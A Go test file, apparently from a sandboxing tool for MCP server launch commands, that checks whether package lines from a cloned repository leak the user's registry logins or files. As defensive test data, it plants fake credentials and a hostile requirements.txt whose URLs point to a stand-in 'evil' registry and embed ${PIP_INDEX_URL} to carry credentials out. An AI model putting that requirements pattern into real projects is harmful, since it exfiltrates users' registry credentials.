package main

import (
	"fmt"
	"strings"
	"testing"

	fixture "github.com/mcp-jail/mcp-jail/internal/testkit/registry"

	"github.com/mcp-jail/mcp-jail/internal/testkit"
)

// TestLinesOfOthers tests that the line of a cloned repository has nothing fetched but in the plain forms: no
// registry that it names is asked for anything, so none gets the user's logins or a file of the user's. The
// control is that such a registry is asked when the user's own configuration names it.
func TestLinesOfOthers(t *testing.T) {
	t.Parallel()
	const password, secret = "tok4606f1a9", "hunterd4c2faf8"
	server := fixture.MCPServer{Name: "good", Version: "1.0.0"}
	stock := fixture.Stock{Packages: []fixture.Package{server.Package()}, Wheels: []fixture.Wheel{server.Wheel()}}
	w, own := newShop(t, stock)
	evil := fixture.Start(t, stock)
	withLogin := strings.Replace(own.URL, "http://", "http://me:"+password+"@", 1)
	w.plant(t, w.home, map[string]string{
		".npmrc":               "registry=" + withLogin + "/\n",
		".config/pip/pip.conf": "[global]\nindex-url = " + withLogin + "/simple\n",
		".pgpass":              "db.example:5432:*:me:" + secret + "\n",
		"notes/passwords.txt":  secret + "\n",
	})
	w.plant(t, w.work, map[string]string{
		"requirements.txt": "evil @ " + evil.URL + "/x/${PIP_INDEX_URL}/evil-1.0-py3-none-any.whl\n--extra-index-url " + evil.URL + "/y/${PIP_INDEX_URL}\n",
	})
	line := func(words string) (said string) {
		t.Helper()
		words = strings.NewReplacer("EVIL", evil.URL, "HOME", w.home).Replace(words)
		s := start(t, w.jail(append([]string{"--"}, strings.Fields(words)...)...))
		answer := s.call("initialize", map[string]any{"protocolVersion": "2025-11-25", "capabilities": map[string]any{}, "clientInfo": map[string]any{"name": "t", "version": "1"}})
		s.close()
		return string(answer.Result) + string(answer.Error) + s.stderr.String()
	}
	for _, words := range testkit.Table[string](t, "package-lines.txt") {
		said := line(words)
		if !strings.Contains(said, "not pinned") || strings.Contains(said, "serverInfo") {
			t.Errorf("%s: %s", words, said)
		}
		if told := fmt.Sprint(evil.Requests(), said); len(evil.Requests()) > 0 || strings.Contains(told, password) || strings.Contains(told, secret) {
			t.Errorf("%s: %s", words, told)
		}
	}
	for _, words := range []string{"npx -y good", "uvx good"} {
		own.Forget()
		if said := line(words); !strings.Contains(said, "serverInfo") {
			t.Errorf("control, %s: %s", words, said)
		}
		// Anybody may have written the line: no login goes even to the user's own registry.
		if asked := own.Requests(); len(asked) == 0 || strings.Contains(fmt.Sprint(asked), "Basic ") {
			t.Errorf("control, %s: %+v", words, asked)
		}
	}
	w.plant(t, w.home, map[string]string{".npmrc": "registry=" + evil.URL + "/\n"})
	if line("npx -y good@1"); len(evil.Requests()) == 0 {
		t.Error("control: the registry that the user names was not asked")
	}
}
